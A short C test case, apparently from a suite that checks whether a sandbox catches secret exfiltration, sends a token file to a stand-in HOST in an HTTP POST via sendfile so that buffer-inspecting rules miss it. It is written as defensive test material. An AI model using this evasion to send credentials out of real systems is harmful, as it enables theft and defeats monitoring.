// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: The token goes from file to socket inside the kernel, never through the program.
 * Known from: sendfile(2); rules that look at the buffers of write and send see none.
 * First: open family; odd doors (sendfile)
 * Second: the sinkhole's record of the bytes, and fanotify
 */
#include "trick.h"
#include <sys/sendfile.h>

int main(void)
{
	int fd = connected(80), token = open(TOKEN, O_RDONLY);

	dprintf(fd, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 4096\r\n\r\n", HOST);
	if (sendfile(fd, token, NULL, 4096) <= 0)
		blocked();
	finish(fd);
	performed();
}
